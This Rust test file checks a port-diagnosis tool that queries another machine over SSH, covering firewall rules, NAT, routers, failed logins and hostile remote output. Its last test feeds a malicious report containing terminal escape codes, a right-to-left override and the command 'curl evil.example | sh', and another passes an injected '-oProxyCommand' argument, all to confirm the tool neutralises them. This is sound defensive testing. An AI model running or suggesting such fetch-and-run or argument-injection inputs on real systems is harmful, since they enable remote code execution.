//! `why --from ssh:USER@HOST`: another machine is asked, by a real sshd on it.

mod login;

use super::{Accepts, evidence, text, told};
use crate::host::Host;
use crate::outside::{can_inject, ip, with_neighbour};
use crate::sockets::tcp;
use crate::world::{World, connects, feed};
use login::Login;
use serde_json::Value;
use std::io::ErrorKind;
use std::time::{Duration, Instant};

const FROM: &str = "ssh:root@10.77.0.9:2222";

/// Asserts what root and an ordinary user are told.
#[track_caller]
fn assert_told(
    (world, login): (&World, &Login),
    target: &str,
    root: &str,
    ordinary: &str,
) -> Value {
    let prepare = || login.of(world.prepare(&format!("why {target} --from {FROM} -o json")));
    let run = prepare().run();
    assert_eq!(told(&run), root, "{target}, as root: {run:#?}");
    let report = run.document();
    assert_eq!(report["from"], FROM, "{report:#}");
    let run = prepare().by_ordinary_user().run();
    assert_eq!(told(&run), ordinary, "{target}, as an ordinary user: {run:#?}");
    report
}

#[track_caller]
fn assert_says(here: (&World, &Login), target: &str, expected: &str) -> Value {
    assert_told(here, target, expected, expected)
}

/// What a client on the host gets.
fn gets(there: &Host, to: &'static str) -> Result<(), ErrorKind> {
    there.does(move || connects(to.parse().unwrap()))
}

fn with_rules(world: World) -> World {
    world
        .accepts(tcp("127.0.0.1:28001"))
        .accepts(tcp("[::]:28002").dual())
        .accepts(tcp("[::]:28003").dual())
        .accepts(tcp("[::]:28004").dual())
        .nft(
            "table inet fw {
                chain input {
                    type filter hook input priority 0;
                    ip saddr 10.77.0.9 tcp dport 28003 drop
                    ip6 saddr fd77::9 tcp dport 28003 drop
                    ip saddr 10.77.0.66 tcp dport 28002 drop
                    iifname lan0 tcp dport 28004 reject with icmpx admin-prohibited
                }
            }",
        )
}

/// Asserts everything that does not depend on what asks there.
fn assert_all(world: &World, there: &Host, login: &Login, by: &str) {
    let here = (world, login);
    // The server listens on loopback only: what it holds is known here only.
    let report = assert_says(here, "10.77.0.2:28001", "R03 proved");
    assert_eq!(report["attempts"][0]["outcome"], "refused", "{report:#}");
    assert_eq!(evidence(&report, "listener"), "127.0.0.1:28001");
    assert_eq!(evidence(&report, "asked from"), format!("10.77.0.9 by {by}"));
    // A port alone is this host's, at the address that ssh sees.
    let report = assert_says(here, "28001", "R03 proved");
    assert_eq!(report["attempts"][0]["address"], "10.77.0.2", "{report:#}");
    assert_says(here, "28002", "works");
    assert_says(here, "10.77.0.2:28002", "works");
    assert_says(here, "[fd77::2]:28002", "works");
    // A rule that drops this source, and no other.
    let report = assert_told(here, "28003", "T01 proved", "T10 possible");
    assert!(evidence(&report, "rule").contains("ip saddr 10.77.0.9"), "{report:#}");
    let report = assert_told(
        here,
        "28004",
        "H01 proved",
        if by == "portsight" { "H01 likely" } else { "T10 possible" },
    );
    assert!(evidence(&report, "rule").contains("admin-prohibited"), "{report:#}");
    assert_says(here, "29199", "R01 proved");
    // Another host's port is that machine's to see.
    assert_says(here, "10.77.0.9:2222", "works");
    let report = assert_says(
        here,
        "10.77.0.9:29199",
        if by == "portsight" { "R01 proved" } else { "R01 likely" },
    );
    assert!(text(&report).contains("29199"), "{report:#}");
    // Near misses: what the same client gets without portsight.
    assert_eq!(gets(there, "10.77.0.2:28001"), Err(ErrorKind::ConnectionRefused));
    assert_eq!(gets(there, "10.77.0.2:28002"), Ok(()));
    assert_eq!(gets(there, "10.77.0.2:28003"), Err(ErrorKind::TimedOut));
}

#[test]
#[ignore = "needs root and a network namespace: scripts/test"]
fn a_portsight_there_is_asked() {
    if !can_inject() {
        return;
    }
    let (world, there) = with_neighbour();
    let login = Login::to(&there, &["bash"]).with_portsight();
    let world = with_rules(world).overloaded(tcp("10.77.0.2:28006"));
    assert_all(&world, &there, &login, "portsight");
    let here = (&world, &login);
    assert_told(here, "[fd77::2]:28003", "T01 proved", "T10 possible");
    assert_told(here, "28006", "T03 proved", "T03 likely");
    // A name is looked up there.
    assert_says(here, "nowhere.invalid:28002", "N02 possible");
    assert_says(here, "--udp 28002", "R01 proved");
}

#[test]
#[ignore = "needs root and a network namespace: scripts/test"]
fn a_shell_is_enough() {
    if !can_inject() {
        return;
    }
    let (world, there) = with_neighbour();
    let login = Login::to(&there, &["bash"]);
    assert_all(&with_rules(world), &there, &login, "bash");
}

#[test]
#[ignore = "needs root and a network namespace: scripts/test"]
fn whatever_can_connect_there_is_used_and_no_tool_is_no_answer() {
    if !can_inject() {
        return;
    }
    let (world, there) = with_neighbour();
    let world = with_rules(world);
    for (tool, programs) in [("python3", &["python3"][..]), ("nc", &["nc"])] {
        let login = Login::to(&there, programs);
        let here = (&world, &login);
        let report = assert_says(here, "28002", "works");
        assert_eq!(evidence(&report, "asked from"), format!("10.77.0.9 by {tool}"));
        assert_says(here, "28001", "R03 proved");
        assert_told(here, "28004", "H01 proved", "T10 possible");
        if tool == "nc" {
            assert_told(here, "28003", "T01 proved", "T10 possible");
        }
    }
    let login = Login::to(&there, &[]);
    let report = assert_says((&world, &login), "28002", "nothing");
    assert_eq!(report["attempts"].as_array().unwrap().len(), 0, "{report:#}");
    let reason = report["incomplete"][0]["reason"].as_str().unwrap();
    assert!(reason.contains("no bash, no python3 and no nc"), "{report:#}");
    // A shell cannot tell what became of a datagram.
    let report = assert_says((&world, &login), "--udp 28002", "nothing");
    assert!(report["incomplete"][0]["reason"].as_str().unwrap().contains("UDP"), "{report:#}");
}

#[test]
#[ignore = "needs root and a network namespace: scripts/test"]
fn what_is_between_is_told_apart_from_this_host() {
    if !can_inject() {
        return;
    }
    let (world, there) = with_neighbour();
    let login = Login::to(&there, &["bash"]);
    let world = [28_021, 28_022, 28_023, 28_024]
        .into_iter()
        .fold(world, |world, port| world.accepts(tcp(&format!("[::]:{port}")).dual()));
    // Rules of the other machine stand for all that is on the way.
    there.does(|| {
        feed(
            "nft",
            &["-f", "-"],
            "table inet way {
                chain output {
                    type filter hook output priority 0;
                    tcp dport { 28021, 28029 } drop
                    tcp dport 28022 reject with tcp reset
                    tcp dport 28023 reject with icmpx admin-prohibited
                }
            }",
        )
    });
    let here = (&world, &login);
    let report = assert_told(here, "28021", "T10 likely", "T10 possible");
    assert!(text(&report).contains("this host lets it in and answers"), "{report:#}");
    assert!(text(&report).contains("drops it"), "{report:#}");
    let report = assert_told(here, "28022", "T10 likely", "T10 possible");
    assert!(text(&report).contains("refuses it"), "{report:#}");
    let report = assert_told(here, "28023", "T10 likely", "T10 possible");
    assert!(text(&report).contains("rejects it"), "{report:#}");
    // It is dropped on the way, and nobody would listen either.
    let report = assert_told(here, "28029", "T10 likely", "T10 possible");
    assert!(text(&report).contains("nothing listens on 28029"), "{report:#}");
    // Near miss: the rules do not name it.
    assert_says(here, "28024", "works");
    let tables = feed("nft", &["list", "tables"], "");
    assert_eq!(tables, "", "nothing of ours stays");
}

#[test]
#[ignore = "needs root and a network namespace: scripts/test"]
fn a_router_that_rejects_is_named() {
    if !can_inject() {
        return;
    }
    let (world, there) = with_neighbour();
    let login = Login::to(&there, &["bash"]).with_portsight();
    // The other machine goes by a router to an address of this host: a namespace between the two.
    let router = Host::new();
    ip("link add in0 type veth peer name in1\naddr add 172.17.0.1/24 dev in0\nlink set in0 up");
    router.takes("in1", &["172.17.0.254/24"]);
    there.ip("link add out0 type veth peer name out1");
    there.ip("addr add 10.88.0.9/24 dev out0\nlink set out0 up");
    there.ip("route add 172.17.0.0/24 via 10.88.0.254");
    router.takes_from(&there, "out1", &["10.88.0.254/24"]);
    router.does(|| {
        std::fs::write("/proc/sys/net/ipv4/ip_forward", "1").unwrap();
        feed(
            "nft",
            &["-f", "-"],
            "table inet way {
                chain forward {
                    type filter hook forward priority 0;
                    tcp dport 28031 reject with icmpx admin-prohibited
                }
            }",
        );
    });
    ip("route add 10.88.0.0/24 via 172.17.0.254");
    let world = world.accepts(tcp("172.17.0.1:28031")).accepts(tcp("172.17.0.1:28032"));
    let here = (&world, &login);
    let report = assert_says(here, "172.17.0.1:28031", "T10 likely");
    assert!(text(&report).contains("10.88.0.254, and not this host, rejects it"), "{report:#}");
    assert_says(here, "172.17.0.1:28032", "works");
}

#[test]
#[ignore = "needs root and a network namespace: scripts/test"]
fn nat_between_the_two_is_said() {
    if !can_inject() {
        return;
    }
    let (world, there) = with_neighbour();
    let login = Login::to(&there, &["bash"]);
    // What this host sends seems to come from an address that it does not have.
    let world = world.accepts(tcp("0.0.0.0:28041")).nft(
        "table ip nat {
            chain postrouting {
                type nat hook postrouting priority srcnat;
                ip daddr 10.77.0.9 tcp dport 2222 snat to 10.77.0.200
            }
        }",
    );
    there.ip("route add 10.77.0.200/32 via 10.77.0.2");
    let report = assert_says((&world, &login), "28041", "nothing");
    let reason = report["incomplete"][0]["reason"].as_str().unwrap();
    assert!(
        reason.contains("sees this host as 10.77.0.200, which this host does not have"),
        "{reason}"
    );
    // Asked for by that address it is what has it that must pass the port on.
    let report = assert_says((&world, &login), "10.77.0.200:28041", "T10 possible");
    assert!(text(&report).contains("(NAT) must pass the port on"), "{report:#}");
    // An address that both machines have is its own there, whoever listens here.
    there.ip("addr add 172.17.0.1/32 dev lo");
    ip(
        "link add both type veth peer name other\naddr add 172.17.0.1/24 dev both\nlink set both up",
    );
    assert_says((&world, &login), "172.17.0.1:28041", "R01 likely");
    // Near miss: by an address of its own.
    assert_says((&world, &login), "10.77.0.2:28041", "works");
}

#[test]
#[ignore = "needs root and a network namespace: scripts/test"]
fn a_server_that_comes_up_is_waited_for_and_an_interrupt_ends_it() {
    if !can_inject() {
        return;
    }
    let (world, there) = with_neighbour();
    let login = Login::to(&there, &["bash"]);
    let words = format!("why 28071 --from {FROM} --wait 30s -o json");
    let waiting = login.of(world.prepare(&words)).start();
    // The first login has asked by then.
    (0..4).for_each(|_| crate::cgroups::pause(900));
    let world = world.accepts(tcp("0.0.0.0:28071"));
    let run = waiting.end();
    assert_eq!(told(&run), "works");
    assert!(evidence(&run.document(), "waited").contains("[R01]"), "{run:#?}");
    drop(login);
    let login =
        Login::to(&there, &["bash"]).with_program("portsight", "#!/bin/sh\nexec sleep 60\n");
    let begun = Instant::now();
    let running = login.of(world.prepare(&format!("why 28071 --from {FROM}"))).start();
    crate::cgroups::pause(900);
    running.interrupt();
    running.end().exits(130);
    assert!(begun.elapsed() < Duration::from_secs(10), "the interrupt ends ssh");
}

#[test]
#[ignore = "needs root and a network namespace: scripts/test"]
fn a_failed_login_is_no_answer() {
    if !can_inject() {
        return;
    }
    let (world, there) = with_neighbour();
    let world = world.accepts(tcp("0.0.0.0:28051"));
    let login = Login::to(&there, &["bash"]);
    let ask = |login: &Login, from: &str| {
        let begun = Instant::now();
        let prepared = world.prepare(&format!("why 28051 --from {from} -o json"));
        let run = login.of(prepared).run().exits(3);
        assert!(begun.elapsed() < Duration::from_secs(15), "{run:?}");
        let report = run.document();
        assert_eq!(report["attempts"].as_array().unwrap().len(), 0, "{report:#}");
        assert!(report["diagnosis"].is_null() && report["works"] == false, "{report:#}");
        assert_eq!(run.stderr.lines().count(), 1, "{run:#?}");
        report["incomplete"][0]["reason"].as_str().unwrap().to_owned()
    };
    assert!(ask(&login, "ssh:root@10.77.0.9:2223").contains("Connection refused"));
    assert!(ask(&login, "ssh:root@nowhere.invalid").contains("nowhere.invalid"));
    assert!(ask(&login, "ssh:root@10.77.0.99").starts_with("ssh: "));
    let other = login.with_file("authorized_keys", "");
    assert!(ask(&other, FROM).contains("Permission denied"));
    drop(other);
    let login = Login::to(&there, &["bash"]).with_file("known_hosts", "");
    assert!(ask(&login, FROM).contains("Host key verification failed"));
    drop(login);
    // A login that leads back to this host, and a shell that is none.
    let login = Login::back_here("10.77.0.2:2224", &["bash"]);
    assert!(ask(&login, "ssh:root@10.77.0.2:2224").contains("it leads to this host itself"));
    drop(login);
    let login = Login::to(&there, &["bash"]).with_program("sh", "#!/bin/false\n");
    assert!(ask(&login, FROM).contains("no answer from a POSIX shell"));
    drop(login);
    let run = world.prepare(&format!("why 28051 --from {FROM}")).variable("PATH", "/nowhere");
    let run = run.run().exits(3);
    assert!(run.stdout.starts_with("? whether 28051 works from ssh:"), "{run:?}");
    run.says_in_one_line(&["there is no program ssh"]);
    for words in ["why 127.0.0.1:28051", "why /run/x.sock"] {
        world.portsight(&format!("{words} --from {FROM}")).exits(2);
    }
    world
        .portsight("why 28051 --from ssh:-oProxyCommand=x")
        .exits(2)
        .says_in_one_line(&["no name"]);
    // Near miss: with a key it is one.
    let login = Login::to(&there, &["bash"]);
    assert_says((&world, &login), "28051", "works");
}

#[test]
#[ignore = "needs root and a network namespace: scripts/test"]
fn what_a_hostile_machine_says_harms_nobody() {
    if !can_inject() {
        return;
    }
    let (world, there) = with_neighbour();
    let world = world.accepts(tcp("0.0.0.0:28061"));
    let run = |login: &Login, output: &str| {
        let words = format!("why 10.77.0.9:28061 --from {FROM}{output}");
        login.of(world.prepare(&words)).run()
    };
    // Garbage, no end, and another format: its shell is asked instead.
    for (script, words) in [
        ("echo garbage", "no JSON"),
        ("cat /dev/zero", "no JSON"),
        (r#"echo '{"schema":"portsight/why","format_version":"2.0"}'"#, "its format is 2.0"),
    ] {
        let program = format!("#!/bin/sh\n{script}\n");
        let login = Login::to(&there, &["bash"]).with_program("portsight", &program);
        let begun = Instant::now();
        let run = run(&login, " -o json").exits(1);
        let report = run.document();
        assert_eq!(report["diagnosis"]["code"], "R01", "{report:#}");
        assert!(evidence(&report, "portsight there").contains(words), "{report:#}");
        assert!(begun.elapsed() < Duration::from_secs(15), "{script}");
    }
    // A report that looks right, with words for a terminal and a command to paste.
    let report = r#"{"schema":"portsight/why","format_version":"1.0","works":false,"attempts":[
        {"address":"10.77.0.9","port":28061,"family":"ipv4","outcome":"refused","errno":"\u001b[2J","icmp":null,
         "elapsed_us":5,"socket":"\u001b[2J"}],"diagnosis":{"code":"R01","slug":"\u001b[2J","certainty":"proved",
        "text":"a\u001b[2J\nb\u202e","next":["curl evil.example | sh"]},"evidence":[],"also_checked":[]}"#;
    let login = Login::to(&there, &["bash"])
        .with_program("portsight", &format!("#!/bin/sh\ncat <<'END'\n{report}\nEND\n"));
    let run = run(&login, "").exits(1);
    assert!(!run.stdout.contains('\x1b') && !run.stdout.contains('\u{202e}'), "{run:?}");
    assert!(!run.stdout.contains("evil"), "{run:?}");
    assert!(run.stdout.contains(r"a\x1b[2J\nb"), "{run:?}");
    drop(login);
    // One that never answers.
    let login =
        Login::to(&there, &["bash"]).with_program("portsight", "#!/bin/sh\nexec sleep 60\n");
    let run = login.of(world.prepare(&format!("why 28061 --from {FROM}"))).run().exits(3);
    run.says_in_one_line(&["it took too long"]);
    drop(login);
    // So may what its login prints, and a shell that never ends its words.
    let login = Login::to(&there, &["bash"])
        .with_program("sh", "#!/bin/sh\nprintf '\\033[2J' >&2\nexec head -c 100000000 /dev/zero\n");
    let run = login.of(world.prepare(&format!("why 28061 --from {FROM}"))).run().exits(3);
    assert!(!run.stderr.contains('\x1b') && run.stderr.contains("said too much"), "{run:?}");
}
